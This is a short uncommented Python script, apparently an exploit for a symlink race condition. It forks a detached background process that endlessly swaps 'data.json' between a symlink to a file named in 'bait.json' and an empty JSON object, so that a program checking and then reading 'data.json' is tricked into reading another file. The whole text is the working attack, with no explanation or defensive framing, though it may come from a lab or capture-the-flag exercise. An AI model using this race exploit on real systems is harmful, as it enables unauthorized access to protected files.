import json
import os

with open("bait.json") as file:
    bait = json.load(file)
if os.fork() == 0:
    os.setsid()
    while True:
        try:
            os.symlink(bait["files"][0], "swap")
            os.rename("swap", "data.json")
            with open("swap", "w") as file:
                file.write("{}")
            os.rename("swap", "data.json")
        except OSError:
            pass
